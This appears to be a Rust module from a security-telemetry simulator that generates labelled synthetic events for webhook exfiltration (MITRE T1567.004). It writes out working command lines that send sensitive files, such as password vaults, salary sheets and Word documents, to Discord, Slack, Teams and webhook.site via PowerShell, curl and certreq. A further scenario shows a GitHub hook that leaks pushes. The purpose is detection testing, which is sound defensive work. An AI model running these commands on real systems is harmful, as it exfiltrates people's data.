//! T1567.004 over webhooks: PowerShell Invoke-RestMethod to Discord and
//! webhook.site, curl to Slack, Invoke-WebRequest to a Teams incoming
//! webhook, certreq -Post (LOLBin), and a GitHub repository webhook created
//! to send pushes to an outside URL.

use super::{home, meta, pick_host, shell, tool, work_time, Meta, Window, MB};
use crate::activity::{Gh, Http};
use crate::clock::{MIN, SEC};
use crate::scene::Scene;
use crate::world::{Os, Role, GITHUB_ORG};

pub(super) fn post(path: String, ua: &str) -> Option<Http> {
    Some(Http {
        method: "POST",
        path,
        user_agent: ua.into(),
        content_type: "application/json",
        upload_name: None,
    })
}

pub(super) const PS_UA: &str =
    "Mozilla/5.0 (Windows NT 10.0; Microsoft Windows 10.0.22631; en-US) PowerShell/5.1.22621.4391";

fn ps_webhook(
    sc: &mut Scene,
    win: Window,
    domain: &str,
    path: String,
    service: &'static str,
) -> Option<Meta> {
    let h = pick_host(sc, Os::Windows, &[])?;
    let t = work_time(sc, win, crate::clock::HOUR);
    let ps = shell(sc, h, t, true);
    let file = format!(
        "{}\\Documents\\{}",
        home(sc, h),
        sc.rng
            .pick(&["clients.csv", "passwords.kdbx", "salaries.xlsx"])
    );
    let url = format!("https://{domain}{path}");
    let script = format!("$f = Get-Item '{file}'\r\nInvoke-RestMethod -Uri '{url}' -Method Post -InFile $f.FullName -ContentType 'application/octet-stream'");
    sc.script(t + 15 * SEC, &ps, &script);
    let n = sc.rng.range(3, 12);
    let bytes = sc.rng.range(2, 24) * MB;
    sc.upload(
        t + 16 * SEC,
        h,
        &ps,
        domain,
        bytes,
        n,
        20 * SEC,
        post(path, PS_UA),
        443,
    );
    Some(meta(
        sc,
        h,
        format!("PowerShell Invoke-RestMethod posts files to {service}"),
        "T1567.004",
        "powershell",
        "webhook",
        domain,
        service,
    ))
}

pub fn discord(sc: &mut Scene, win: Window) -> Option<Meta> {
    let id = sc
        .rng
        .range(1_100_000_000_000_000_000, 1_200_000_000_000_000_000);
    let token = sc.rng.base62(40);
    ps_webhook(
        sc,
        win,
        "discord.com",
        format!("/api/webhooks/{id}/{token}"),
        "Discord webhook",
    )
}

pub fn webhook_site(sc: &mut Scene, win: Window) -> Option<Meta> {
    let id = sc.rng.uuid();
    ps_webhook(sc, win, "webhook.site", format!("/{id}"), "webhook.site")
}

pub fn slack(sc: &mut Scene, win: Window) -> Option<Meta> {
    let h = pick_host(sc, Os::Linux, &[])?;
    let t = work_time(sc, win, crate::clock::HOUR);
    let path = format!(
        "/services/T0{}/B0{}/{}",
        sc.rng.base62(8).to_uppercase(),
        sc.rng.base62(8).to_uppercase(),
        sc.rng.base62(24)
    );
    let sh = shell(sc, h, t, false);
    let mut end = t;
    let n = sc.rng.range(4, 10);
    for i in 0..n {
        let at = t + i as i64 * 2 * MIN;
        let cmd = format!("curl -s -X POST -H Content-type:application/json --data-binary @/tmp/.c/part{i:02}.json https://hooks.slack.com{path}");
        let p = tool(sc, h, at, &sh, "/usr/bin/curl", &cmd, None);
        let bytes = sc.rng.range(400_000, 4 * MB);
        end = sc.upload(
            at + SEC,
            h,
            &p,
            "hooks.slack.com",
            bytes,
            1,
            0,
            post(path.clone(), "curl/7.88.1"),
            443,
        );
    }
    let _ = end;
    Some(meta(
        sc,
        h,
        "curl posts file chunks to a Slack incoming webhook".into(),
        "T1567.004",
        "curl",
        "webhook",
        "hooks.slack.com",
        "Slack webhook",
    ))
}

pub fn teams(sc: &mut Scene, win: Window) -> Option<Meta> {
    let h = pick_host(sc, Os::Windows, &[])?;
    let t = work_time(sc, win, crate::clock::HOUR);
    let tenant = sc
        .rng
        .pick(&["northwind-ops", "fabrikam-it", "adatum"])
        .to_string();
    let domain = format!("{tenant}.webhook.office.com");
    let path = format!(
        "/webhookb2/{}@{}/IncomingWebhook/{}/{}",
        sc.rng.uuid(),
        sc.rng.uuid(),
        sc.rng.hex(32),
        sc.rng.uuid()
    );
    let ps = shell(sc, h, t, true);
    let script = format!("Get-ChildItem $env:USERPROFILE\\Documents -Filter *.docx | ForEach-Object {{ $b = @{{ text = [Convert]::ToBase64String([IO.File]::ReadAllBytes($_.FullName)) }} | ConvertTo-Json; Invoke-WebRequest -UseBasicParsing -Uri 'https://{domain}{path}' -Method Post -Body $b -ContentType 'application/json' }}");
    sc.script(t + 10 * SEC, &ps, &script);
    let bytes = sc.rng.range(3, 30) * MB;
    let parts = sc.rng.range(5, 15);
    sc.upload(
        t + 11 * SEC,
        h,
        &ps,
        &domain,
        bytes,
        parts,
        5 * SEC,
        post(path, PS_UA),
        443,
    );
    Some(meta(sc, h, format!("Invoke-WebRequest posts base64 documents to a Teams incoming webhook of tenant {tenant}"), "T1567.004", "powershell", "webhook", &domain, "Microsoft Teams webhook (foreign tenant)"))
}

pub fn certreq(sc: &mut Scene, win: Window) -> Option<Meta> {
    let h = pick_host(sc, Os::Windows, &[])?;
    let t = work_time(sc, win, crate::clock::HOUR);
    let id = sc.rng.uuid();
    let sh = shell(sc, h, t, false);
    let cmd = format!("certreq.exe -Post -config https://webhook.site/{id} C:\\Users\\Public\\notes.txt C:\\Users\\Public\\resp.txt");
    let p = tool(
        sc,
        h,
        t + 3 * SEC,
        &sh,
        "C:\\Windows\\System32\\certreq.exe",
        &cmd,
        Some("CertReq.exe"),
    );
    let bytes = sc.rng.range(50_000, 1_000_000);
    sc.upload(
        t + 4 * SEC,
        h,
        &p,
        "webhook.site",
        bytes,
        1,
        0,
        post(
            format!("/{id}"),
            "Mozilla/4.0 (compatible; Win32; NDES client 10.0.22621.4391)",
        ),
        443,
    );
    Some(meta(
        sc,
        h,
        "certreq -Post sends a file to webhook.site (LOLBin)".into(),
        "T1567.004",
        "certreq",
        "lolbin",
        "webhook.site",
        "webhook.site",
    ))
}

pub fn github_hook(sc: &mut Scene, win: Window) -> Option<Meta> {
    let h = pick_host(sc, Os::Windows, &[Role::Developer, Role::Admin])?;
    let t = work_time(sc, win, crate::clock::HOUR);
    let user = sc.w.hosts[h].user;
    let repo = format!("{GITHUB_ORG}/{}", sc.rng.pick(&crate::background::REPOS));
    let url = format!("https://webhook.site/{}", sc.rng.uuid());
    sc.gh(
        t,
        Gh {
            user,
            ip: sc.w.hosts[h].ip.clone(),
            action: "hook.create",
            repo: repo.clone(),
            hook_url: Some(url.clone()),
            visibility: None,
        },
    );
    for i in 0..sc.rng.range(2, 5) {
        // Each push makes GitHub deliver a payload (commits, diffs) to the hook.
        sc.bytes_out += sc.rng.range(20_000, 400_000);
        sc.gh(
            t + (i as i64 + 1) * 7 * MIN,
            Gh {
                user,
                ip: sc.w.hosts[h].ip.clone(),
                action: "git.push",
                repo: repo.clone(),
                hook_url: None,
                visibility: None,
            },
        );
    }
    Some(meta(
        sc,
        h,
        format!("GitHub webhook created on {repo} to send pushes to {url}"),
        "T1567.004",
        "github-webhook",
        "webhook",
        "webhook.site",
        "GitHub repository webhook",
    ))
}
